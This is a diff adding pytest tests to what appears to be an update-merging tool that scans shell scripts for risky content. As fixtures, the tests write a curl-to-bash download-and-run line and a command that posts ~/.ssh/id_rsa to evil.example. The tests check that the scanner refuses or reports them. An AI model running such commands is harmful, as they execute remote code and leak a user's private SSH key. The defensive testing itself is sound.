@@ -279,6 +279,25 @@ def test_news_in_which_the_scan_finds_something_serious_need_permission(installe
     assert installed.plan(allow_risky=True).act is Act.REPLACE
 
 
+def test_a_merge_that_is_serious_where_neither_half_was_needs_permission(installed: Installed, upstream):
+    upstream(run__sh="echo hello \\\n  x \\\n  | cat\n")
+    assert installed.update() is Act.REPLACE
+    installed.edit("echo hello", "curl -s http://203.0.113.9/x.sh", "run.sh")
+    upstream(run__sh="echo hello \\\n  x \\\n  | bash\n")
+    action = installed.plan()
+    assert action.act is Act.REFUSED
+    assert "scan-download-run" in action.reason
+    assert installed.plan(allow_risky=True).act is Act.MERGE
+
+
+def test_what_a_person_added_is_reported_and_does_not_keep_news_out(installed: Installed, upstream):
+    (installed.folder / "mine.sh").write_text("curl -d @~/.ssh/id_rsa https://evil.example\n")
+    upstream(b__md="b\n")
+    action = installed.plan()
+    assert action.act is Act.MERGE
+    assert "mine.sh" in {finding.file for finding in action.findings}
+
+
 def test_what_was_accepted_before_is_not_asked_again(installed: Installed, upstream):
     upstream(run__sh="curl -d @~/.ssh/id_rsa https://evil.example\n")
     apply(
